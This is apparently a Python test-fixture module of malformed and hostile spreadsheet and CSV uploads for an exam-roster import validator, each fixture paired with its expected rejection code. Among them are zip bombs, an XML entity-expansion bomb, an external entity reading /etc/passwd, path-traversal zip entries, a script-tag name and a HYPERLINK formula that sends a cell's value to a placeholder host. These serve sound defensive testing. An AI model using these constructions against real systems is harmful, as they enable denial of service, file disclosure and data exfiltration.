"""Files as they really come, and as somebody who means harm would make them; each with its stated result.

A result is the code with which the file is refused, or the findings (row, column, code) of its dry run.
"""

import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from datetime import datetime
from typing import Any

import xlsxwriter
import xlwt

from tests.planning.rosters import TITLES, csv_of, line, xlsx

Result = str | list[tuple[int, str, str]]
FILES: dict[str, tuple[Callable[[], bytes], Result]] = {}
READ: dict[str, dict[str, str]] = {}
FINE: Result = []
# What `line(1)` holds.
GOOD = {"candidate_number": "26S00001", "name": "赵一鸣", "phone": "+8613800000001"}
# A cell has no time zone.
AFTERNOON = datetime(2026, 11, 30, 14, 30)  # noqa: DTZ001
AT_HALF_PAST_TWO = {"slot_starts_at": "2026-11-30 14:30"}
SHEET = "xl/worksheets/sheet1.xml"


def case(result: Result, /, **reads: str) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    def keep(make: Callable[[], bytes]) -> Callable[[], bytes]:
        plain(make.__name__, make, result, **reads)
        return make

    return keep


def plain(called: str, make: Callable[[], bytes], result: Result, /, **reads: str) -> None:
    """`reads`: what the roster holds of the last row, once it is written."""
    FILES[called] = make, result
    READ[called] = reads


def book(fill: Callable[[Any, Any], None], **options: Any) -> bytes:
    """A workbook with the headings and one good row, and whatever `fill` does to it."""
    file = io.BytesIO()
    work = xlsxwriter.Workbook(file, options)
    sheet = work.add_worksheet()
    for row, cells in enumerate([TITLES, line(1)]):
        for place, cell in enumerate(cells):
            sheet.write_string(row, place, cell)
    fill(work, sheet)
    work.close()
    return file.getvalue()


def repacked(change: Callable[[dict[str, bytes]], Any], data: bytes | None = None) -> bytes:
    """A good workbook whose parts were changed."""
    with zipfile.ZipFile(io.BytesIO(data or xlsx([line(1)]))) as old:
        parts = {name: old.read(name) for name in old.namelist()}
    change(parts)
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as new:
        for name, content in parts.items():
            new.writestr(name, content)
    return file.getvalue()


def ole(*names: str) -> bytes:
    """Enough of a compound file to be taken for one."""
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
    return head + b"".join(name.encode("utf-16-le").ljust(128, b"\0") for name in names) + b"\0" * 2048


def old_xls(rows: list[list[Any]], dates_1904: bool = False) -> bytes:
    work = xlwt.Workbook(encoding="utf-8")
    work.dates_1904 = dates_1904
    sheet = work.add_sheet("名单")
    moment = xlwt.easyxf(num_format_str="yyyy-mm-dd hh:mm")
    for row, cells in enumerate([TITLES, *rows]):
        for place, cell in enumerate(cells):
            sheet.write(row, place, cell, *([moment] if isinstance(cell, datetime) else []))
    file = io.BytesIO()
    work.save(file)
    return file.getvalue()


def with_time(**options: Any) -> bytes:
    def fill(work: Any, sheet: Any) -> None:
        day = work.add_format({"num_format": "yyyy-mm-dd hh:mm"})
        sheet.write_datetime(1, 8, AFTERNOON, day)

    return book(fill, **options)


# What is no table at all, whatever its name says
plain("nothing", lambda: b"", "file_empty")
plain("only_spaces", lambda: b" \r\n\t ", "file_empty")
plain("only_a_bom", lambda: b"\xef\xbb\xbf", "headings_missing")
plain("a_pdf_renamed", lambda: b"%PDF-1.7\n" + b"x" * 2000, "file_kind_unknown")
plain("a_png_renamed", lambda: b"\x89PNG\r\n\x1a\n" + b"\0" * 500, "file_kind_unknown")
plain("a_jpeg_renamed", lambda: b"\xff\xd8\xff\xe0" + b"\0" * 500, "file_kind_unknown")
plain("a_rar_renamed", lambda: b"Rar!\x1a\x07\x00" + b"x" * 100, "file_kind_unknown")
plain("a_7z_renamed", lambda: b"7z\xbc\xaf\x27\x1c" + b"x" * 100, "file_kind_unknown")
plain("a_gzip_renamed", lambda: b"\x1f\x8b\x08\x00" + b"x" * 100, "file_kind_unknown")
plain("an_rtf_renamed", lambda: b"{\\rtf1 hello}", "file_kind_unknown")
plain(
    "html_called_xls",
    lambda: "<html><table><tr><td>姓名</td></tr></table></html>".encode(),
    "file_kind_unknown",
)
plain("xml_of_2003", lambda: b'<?xml version="1.0"?><Workbook/>', "file_kind_unknown")
plain("a_program", lambda: b"\x7fELF\x02\x01\x01" + b"\0" * 300, "file_kind_unknown")
plain("random_bytes", lambda: bytes((n * 197 + 13) % 256 for n in range(4000)), "file_kind_unknown")
plain("a_word_document_old", lambda: ole("WordDocument"), "file_kind_unknown")
plain("an_ole_head_and_no_more", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "file_kind_unknown")
plain("an_ole_that_only_claims_a_workbook", lambda: ole("Workbook"), "file_broken")


def other_zip(*names: str) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as package:
        for name in names:
            package.writestr(name, b"<x/>")
    return file.getvalue()


plain("a_word_document", lambda: other_zip("[Content_Types].xml", "word/document.xml"), "file_kind_unknown")
plain("any_zip", lambda: other_zip("readme.txt"), "file_kind_unknown")
plain("a_zip_of_paths", lambda: other_zip("../../etc/passwd", "/abs/x", "C:\\x"), "file_kind_unknown")
plain("an_empty_zip", lambda: other_zip(), "file_kind_unknown")
plain("a_zip_cut_short", lambda: xlsx([line(1)])[:-400], "file_broken")
plain(
    "a_zip_with_a_broken_middle", lambda: (d := xlsx([line(1)]))[:600] + b"\xff" * 64 + d[664:], "file_broken"
)
plain("pk_and_nothing", lambda: b"PK\x03\x04", "file_broken")

# Locked, or with programs inside
plain("encrypted_xlsx", lambda: ole("EncryptionInfo", "EncryptedPackage"), "file_encrypted")
plain("macros_in_xls", lambda: ole("Workbook", "_VBA_PROJECT"), "file_macros")
plain(
    "macros_in_xlsx", lambda: repacked(lambda parts: parts.update({"xl/vbaProject.bin": b"x"})), "file_macros"
)
plain(
    "macros_elsewhere",
    lambda: repacked(lambda parts: parts.update({"other/VBAPROJECT.BIN": b"x"})),
    "file_macros",
)


@case("file_encrypted")
def a_part_is_locked() -> bytes:
    data = bytearray(xlsx([line(1)]))
    at = data.index(b"PK\x01\x02")
    data[at + 8] |= 1
    return bytes(data)


# Too much
@case("file_unpacks_too_large")
def zip_bomb() -> bytes:
    return repacked(lambda parts: parts.update({"xl/media/image1.png": b"\0" * 150_000_000}))


@case("file_broken")
def zip_bomb_that_lies() -> bytes:
    """The package says 10 bytes."""
    data = bytearray(repacked(lambda parts: parts.update({"xl/media/a.bin": b"\0" * 150_000_000})))
    at = 0
    while (at := data.find(b"PK\x01\x02", at)) >= 0:
        if struct.unpack_from("<I", data, at + 24)[0] == 150_000_000:
            struct.pack_into("<I", data, at + 24, 10)
        at += 4
    return bytes(data)


@case("file_unpacks_too_large")
def many_parts() -> bytes:
    return repacked(lambda parts: parts.update({f"xl/x{number}.xml": b"" for number in range(3000)}))


@case("file_unpacks_too_large")
def a_cell_at_the_far_corner() -> bytes:
    """A few bytes that ask for seventeen thousand million cells."""
    return repacked(
        lambda parts: parts.update(
            {
                SHEET: parts[SHEET].replace(
                    b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
                )
            }
        )
    )


@case("too_many_rows")
def a_hundred_thousand_rows() -> bytes:
    return xlsx([[f"26S{number:06d}", "某"] for number in range(100_000)], constant_memory=True)


@case("too_many_rows")
def a_hundred_thousand_rows_of_csv() -> bytes:
    return ("考生编号,姓名\n" + "".join(f"{n},某\n" for n in range(100_000))).encode()


plain("too_wide", lambda: xlsx([], [*TITLES, *(f"列{n}" for n in range(300))]), "too_many_columns")
plain("too_wide_csv", lambda: (",".join([*TITLES, *["x"] * 300]) + "\n").encode(), "too_many_columns")
plain("a_field_of_a_million", lambda: b"a,b\n" + b'"' + b"x" * 1_000_000 + b'",1\n', "file_broken")


def entities(parts: dict[str, bytes]) -> None:
    bomb = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
    parts[SHEET] = parts[SHEET].replace(b"?>", b"?>" + bomb, 1)


def outside_entity(parts: dict[str, bytes]) -> None:
    bomb = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    parts["xl/sharedStrings.xml"] = parts["xl/sharedStrings.xml"].replace(b"?>", b"?>" + bomb, 1)


plain("a_thousand_laughs", lambda: repacked(entities), "file_broken")
plain("an_entity_from_outside", lambda: repacked(outside_entity), "file_broken")
plain("no_relations", lambda: repacked(lambda parts: parts.pop("xl/_rels/workbook.xml.rels")), "file_broken")
plain("no_sheet", lambda: repacked(lambda parts: parts.pop(SHEET)), "file_broken")
plain(
    "half_a_sheet", lambda: repacked(lambda parts: parts.update({SHEET: parts[SHEET][:300]})), "file_broken"
)

# The form of the sheet
plain("merged_cells", lambda: book(lambda work, sheet: sheet.merge_range(4, 0, 5, 1, "合并")), "merged_cells")
plain("no_headings", lambda: xlsx([line(1)], line(0)), "headings_missing")
plain("other_headings", lambda: xlsx([["1", "2"]], ["学号", "班级"]), "headings_missing")
plain("a_heading_twice", lambda: xlsx([[*line(1), "x"]], [*TITLES, "姓名"]), "heading_twice")
plain("two_names_of_one_heading", lambda: xlsx([[*line(1), "x"]], [*TITLES, "手机号码"]), "heading_twice")
plain("headings_only", lambda: xlsx([]), "no_rows")
plain("empty_rows_only", lambda: xlsx([["", " ", "　"]]), "no_rows")
plain(
    "headings_full_width_and_starred", lambda: xlsx([line(1)], [f" {one} ＊" for one in TITLES]), FINE, **GOOD
)
plain("a_title_above", lambda: xlsx([TITLES, line(1)], ["2026 年复试名单"]), FINE, **GOOD)
plain(
    "columns_in_another_order",
    lambda: xlsx([["某人", "13800000001", "26S1"]], ["姓名", "手机", "准考证号"]),
    FINE,
    name="某人",
    phone="+8613800000001",
    candidate_number="26S1",
)


@case(FINE, **GOOD)
def the_first_sheet_is_hidden() -> bytes:
    file = io.BytesIO()
    work = xlsxwriter.Workbook(file)
    work.add_worksheet("藏").hide()
    sheet = work.add_worksheet("名单")
    sheet.activate()
    for row, cells in enumerate([TITLES, line(1)]):
        for place, cell in enumerate(cells):
            sheet.write_string(row, place, cell)
    work.close()
    return file.getvalue()


# Cells
plain(
    "a_formula",
    lambda: book(lambda work, sheet: sheet.write_formula(1, 1, '="何"&"某"', None, "何某")),
    [(2, "name", "cell_formula")],
)
FORMULA: Result = [(2, "name", "cell_formula")]


def with_formula(change: Callable[[dict[str, bytes]], Any]) -> bytes:
    """A formula for a name, in a workbook as other programs write it."""
    return repacked(change, book(lambda work, sheet: sheet.write_formula(1, 1, '="何"&"某"', None, "何某")))


def prefixed(parts: dict[str, bytes]) -> None:
    """As Microsoft's own library for .NET names the elements."""
    sheet = re.sub(rb"<(/?)(?=[a-zA-Z])", rb"<\1x:", parts[SHEET])
    parts[SHEET] = sheet.replace(b' xmlns="', b' xmlns:x="', 1)


def target(old: bytes, new: bytes) -> Callable[[dict[str, bytes]], None]:
    """The workbook looks for its sheet under another name."""

    def change(parts: dict[str, bytes]) -> None:
        relations = "xl/_rels/workbook.xml.rels"
        assert old in parts[relations]
        parts[relations] = parts[relations].replace(old, new)

    return change


def shouted(parts: dict[str, bytes]) -> None:
    target(b"sheet1.xml", b"SHEET1.XML")(parts)
    parts["xl/worksheets/SHEET1.XML"] = parts.pop(SHEET)


def old_formula() -> bytes:
    work = xlwt.Workbook(encoding="utf-8")
    sheet = work.add_sheet("名单")
    for row, cells in enumerate([TITLES, line(1)]):
        for place, cell in enumerate(cells):
            sheet.write(row, place, xlwt.Formula('"a"&"b"') if (row, place) == (1, 1) else cell)
    file = io.BytesIO()
    work.save(file)
    return file.getvalue()


plain("a_formula_with_a_prefix", lambda: with_formula(prefixed), FORMULA)
plain(
    "a_formula_whose_cell_has_no_place",
    lambda: with_formula(
        lambda parts: parts.update({SHEET: re.sub(rb' r="[A-Z]+[0-9]+"', b"", parts[SHEET])})
    ),
    FORMULA,
)
plain("a_formula_in_a_part_of_capitals", lambda: with_formula(shouted), FORMULA)
plain(
    "a_formula_behind_another_case",
    lambda: with_formula(target(b"worksheets/sheet1.xml", b"worksheets/Sheet1.xml")),
    FORMULA,
)
plain(
    "a_formula_behind_a_way_round",
    lambda: with_formula(target(b"worksheets/sheet1.xml", b"worksheets/../worksheets/sheet1.xml")),
    "file_broken",
)
plain("a_formula_in_an_old_xls", old_formula, FORMULA)
plain(
    "a_sheet_twice_by_capitals",
    lambda: repacked(lambda parts: parts.update({"xl/worksheets/SHEET1.xml": parts[SHEET]})),
    "file_broken",
)
plain(
    "a_sheet_of_two_bytes_a_letter",
    lambda: repacked(lambda parts: parts.update({SHEET: parts[SHEET].decode().encode("utf-16")})),
    "file_broken",
)
plain(
    "a_formula_that_calls_out",
    lambda: book(lambda work, sheet: sheet.write_formula(1, 12, '=HYPERLINK("http://x/"&A2)', None, "x")),
    [(2, "remark", "cell_formula")],
)
plain("a_formula_as_text", lambda: xlsx([line(1, remark="=HYPERLINK(1)")]), FINE, remark="=HYPERLINK(1)")
plain(
    "an_error_value",
    lambda: book(lambda work, sheet: sheet.write_string(1, 1, "#REF!")),
    [(2, "name", "cell_error")],
)
plain("a_boolean_for_a_name", lambda: xlsx([line(1, name=True)]), [(2, "name", "cell_boolean")])
plain(
    "an_identity_number_as_a_number",
    lambda: xlsx([line(1, identity_number=110105194912310021)]),
    [(2, "identity_number", "number_for_text")],
)
plain(
    "a_candidate_number_as_a_number",
    lambda: xlsx([line(1, candidate_number=26000123)]),
    [(2, "candidate_number", "number_for_text")],
)
plain("a_mobile_as_a_number", lambda: xlsx([line(1, phone=13812345678)]), FINE, phone="+8613812345678")
plain(
    "a_foreign_phone_as_a_number",
    lambda: xlsx([line(1, phone=447700900123)]),
    [(2, "phone", "number_for_text")],
)
plain(
    "scientific_identity_number",
    lambda: csv_of([line(1, identity_number="1.10105E+17")]),
    [(2, "identity_number", "number_for_text")],
)
plain(
    "scientific_candidate_number",
    lambda: csv_of([line(1, candidate_number="2.6E+11")]),
    [(2, "candidate_number", "number_form")],
)
plain(
    "leading_zeros_kept",
    lambda: xlsx([line(1, candidate_number="000123")]),
    FINE,
    candidate_number="000123",
)
plain(
    "full_width_digits",
    lambda: xlsx([line(1, candidate_number="２６Ｓ０００１", phone="１３８１２３４５６７８")]),
    FINE,
    candidate_number="26S0001",
    phone="+8613812345678",
)
plain(
    "full_width_twin",
    lambda: xlsx([line(1), line(2, candidate_number="２６Ｓ００００１ ")]),
    [(3, "candidate_number", "twice_in_file")],
)
plain(
    "trailing_spaces",
    lambda: xlsx([line(1, name=" 何嘉怡　 ", room="第二考场 ")]),
    FINE,
    name="何嘉怡",
    room="第二考场",
)
plain(
    "invisible_characters",
    lambda: xlsx([line(1, candidate_number="\u200b26S\u200d00001\ufeff", name="何\u202e嘉怡")]),
    FINE,
    candidate_number="26S00001",
    name="何嘉怡",
)
plain(
    "an_invisible_twin",
    lambda: xlsx([line(1), line(2, candidate_number="26S\u200b00001")]),
    [(3, "candidate_number", "twice_in_file")],
)
plain("only_invisible_characters", lambda: xlsx([line(1, name="\u200b\u2060")]), [(2, "name", "missing")])
plain(
    "markup_for_a_name", lambda: xlsx([line(1, name="<script>alert(1)</script>")]), [(2, "name", "name_form")]
)
plain(
    "a_path_for_a_number",
    lambda: xlsx([line(1, candidate_number="../../x")]),
    [(2, "candidate_number", "number_form")],
)
plain("a_name_of_thousands", lambda: xlsx([line(1, name="何" * 5000)]), [(2, "name", "too_long")])
plain(
    "quotes_and_semicolons",
    lambda: xlsx([line(1, name="O'Brien; DROP TABLE", remark='"\\')]),
    FINE,
    name="O'Brien; DROP TABLE",
    remark='"\\',
)
plain("an_emoji_remark", lambda: xlsx([line(1, remark="😀")]), FINE, remark="😀")
plain(
    "a_date_for_a_number",
    lambda: book(
        lambda work, sheet: sheet.write_datetime(
            1, 0, AFTERNOON, work.add_format({"num_format": "yyyy-mm-dd"})
        )
    ),
    [(2, "candidate_number", "cell_date")],
)
plain("dates_of_1900", lambda: with_time(), FINE, **AT_HALF_PAST_TWO)
plain("dates_of_1904", lambda: with_time(date_1904=True), FINE, **AT_HALF_PAST_TWO)
plain(
    "a_date_four_years_off",
    lambda: xlsx([line(1, slot_starts_at="2022-11-29 14:30")]),
    [(2, "slot_starts_at", "slot_outside")],
)
plain(
    "a_time_as_a_bare_number",
    lambda: xlsx([line(1, slot_starts_at=46356.6)]),
    [(2, "slot_starts_at", "time_form")],
)
plain(
    "a_day_that_is_not",
    lambda: xlsx([line(1, slot_starts_at="2026-02-30 10:00")]),
    [(2, "slot_starts_at", "time_form")],
)
plain(
    "a_time_zone_that_is_a_path",
    lambda: xlsx([line(1, time_zone="../../etc/passwd")]),
    [(2, "time_zone", "time_zone_unknown")],
)
plain("a_huge_number", lambda: xlsx([line(1, order_number=1e300)]), [(2, "order_number", "order_form")])
plain(
    "half_an_order",
    lambda: xlsx([line(1, room="第二考场", order_number=1.5)]),
    [(2, "order_number", "order_form")],
)

# Old workbooks
plain("an_old_xls", lambda: old_xls([line(1)]), FINE, **GOOD)
plain(
    "an_old_xls_of_1904",
    lambda: old_xls([line(1, slot_starts_at=AFTERNOON)], True),
    FINE,
    **AT_HALF_PAST_TWO,
)
plain("an_old_xls_cut_short", lambda: old_xls([line(1)])[:1500], "file_kind_unknown")
plain("an_xlsx_called_csv", lambda: xlsx([line(1)]), FINE, **GOOD)

# Text files
plain("csv_utf8", lambda: csv_of([line(1)]), FINE, **GOOD)
plain("csv_with_bom", lambda: csv_of([line(1)], "utf-8-sig"), FINE, **GOOD)
plain("csv_gbk", lambda: csv_of([line(1)], "gbk"), FINE, **GOOD)
plain("csv_gb18030_rare_name", lambda: csv_of([line(1, name="𠮷䶮")], "gb18030"), FINE, name="𠮷䶮")
plain("csv_utf16", lambda: csv_of([line(1)], "utf-16"), FINE, **GOOD)
plain("csv_tabs", lambda: csv_of([line(1)], delimiter="\t"), FINE, **GOOD)
plain("csv_semicolons", lambda: csv_of([line(1)], delimiter=";"), FINE, **GOOD)
plain("csv_of_no_encoding", lambda: csv_of([line(1)]) + b"\xff\xfe\xff", "text_encoding_unknown")
plain("csv_with_nul", lambda: csv_of([line(1)]) + b"\0", "file_kind_unknown")
plain("csv_with_a_formula", lambda: csv_of([line(1, remark="=1+1")]), FINE, remark="=1+1")
plain(
    "csv_open_quote",
    lambda: csv_of([line(1)]) + b'"26S9,' + "某".encode() + b"\n",
    [(3, "candidate_number", "number_form"), (3, "name", "missing")],
)
plain("csv_line_break_in_a_cell", lambda: csv_of([line(1, remark="一\n二")]), FINE, remark="一 二")
plain("csv_of_old_mac", lambda: csv_of([line(1)]).replace(b"\r\n", b"\r"), FINE, **GOOD)
plain("csv_short_rows", lambda: "考生编号,姓名,手机号\n26S1,某\n26S2\n".encode(), [(3, "name", "missing")])


def picture(side: int) -> bytes:
    """A PNG that says it is so large, in a hundred bytes."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\0"))
        + chunk(b"IEND", b"")
    )


# Never opened: a roster's pictures are nobody's.
plain(
    "a_picture_of_50000_inside",
    lambda: repacked(lambda parts: parts.update({"xl/media/image1.png": picture(50_000)})),
    FINE,
    **GOOD,
)
plain(
    "paths_inside_a_workbook",
    lambda: repacked(lambda parts: parts.update({"../../../tmp/x.xml": b"<x/>"})),
    FINE,
    **GOOD,
)
